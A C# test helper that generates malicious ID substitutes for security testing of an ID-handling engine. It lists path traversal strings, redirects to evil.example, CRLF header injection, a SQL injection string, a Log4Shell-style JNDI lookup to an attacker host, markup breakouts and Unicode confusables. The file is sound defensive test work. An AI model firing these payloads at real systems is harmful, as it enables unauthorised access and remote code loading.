namespace Testing;

/// <summary>What somebody may write in place of an ID to reach another resource, another key or another line.</summary>
public static class IdTricks
{
    /// <summary>An ID of a harmless form that nothing has.</summary>
    public const string Unknown = "99999999-0000-4000-8000-00000000dead";

    /// <summary>Another resource that tricks lead to.</summary>
    private const string Other = "11111111-0000-4000-8000-00000000beef";

    /// <summary>Those that would lead an address elsewhere.</summary>
    public static IEnumerable<string> Leading(string good) =>
    [
        // Paths.
        ".", "..", "...", "/", "//", "\\", "../", "..\\", "./", $"../{good}", $"{good}/..", $"{good}/../{Other}", $"../../../{Other}", $"..\\{good}", $"{good}\\..\\{Other}", $"/{good}", $"{good}/",
        $"./{good}", $"{good}/.", $"//evil.example/{good}", $"http://evil.example/{good}", $"@evil.example/{good}",
        "%2e", "%2e%2e", "..%2f", $"..%2f{good}", $"%2e%2e%2f{good}", $"..%252f{good}", $"..%5c{good}", "%", "%zz", $"{good}%00", $"{good}%0d%0aX-Injected:%201", $"{good}%20",
        // Other operations of the platform on the same object, and the platform's own marks.
        "query", "queryMore", "bulk", "execute", $"execute/{good}", $"{good}/execute", $"{good}/update", "prepare", $"{good}~", $"{good}~1", $"{good}~main", $"~{good}", "~", "~1",
        // Queries and fragments.
        "?", "#", $"{good}?", $"{good}#", $"{good}?overrideAccount={Other}", $"{good}#/{Other}", $"{good}&overrideAccount={Other}", $"{good};v=1", $"{good};", $"{good}=", $"{good}+",
    ];

    /// <summary>Tricks made of <paramref name="good"/>, an ID that something has.</summary>
    public static IEnumerable<string> With(string good) =>
    [
        .. Leading(good),
        // Keys of the store, entity IDs of DataHub.
        ":", "{", "}", "{}", $"{{{good}}}", $"{good}:", $":{good}", $"{good}:{Other}", "promo:1:{promo}:r:audit", "audit", "time", "status:COMPLETED", "|", $"{good}|", $"{good}|{Other}", "*", "?*[a-z]", $"{good}*",
        // Markup and filters.
        "<", "&", "\"", "'", "<!DOCTYPE a>", "<a/>", "]]>", "&amp;", "&#0;", $"{good}</value><value>{Other}", $"{good}\",\"{Other}", "\"}]}},{", "' or '1'='1", "${jndi:ldap://evil.example/a}", "{0}", "%s",
        // Characters that do not look like what they are.
        "．．／", "․․", "‥", "∕", "／", "＼", "⁄", "？", "＃", $"{good}\u200b", $"\u202e{good}", $"{good}\u2028", $"{good}\u0085", $"{good}\u00a0", $"{good}\ufeff", Wide(good), "\U0001F600", "e\u0301", "\ufffd", "\ufdd0", $"{good}\uffff",
        // Control characters: the host does not let them through, the engine does not rely on it.
        "\0", $"{good}\0", $"\0{good}", $"{good}\r\nX-Injected: 1", $"{good}\n{Other}", "\r", $"{good}\t", $"{good}\u001b[2J", $"{good}\u0007", $"{good}\u007f",
        // Long ones: as the host lets through, longer than an address may be, longer than anything.
        new('a', 1_024), $"{good}{new string('a', 1_024)}", string.Concat(Enumerable.Repeat("../", 341)), string.Concat(Enumerable.Repeat("%", 5_000)), new('é', 20_000), new('a', 70_000),
    ];

    // The same letters, digits and hyphens, wide.
    private static string Wide(string text) => string.Concat(text.Select(character => character is > ' ' and < '\u007f' ? (char)(character + 0xFEE0) : character));
}
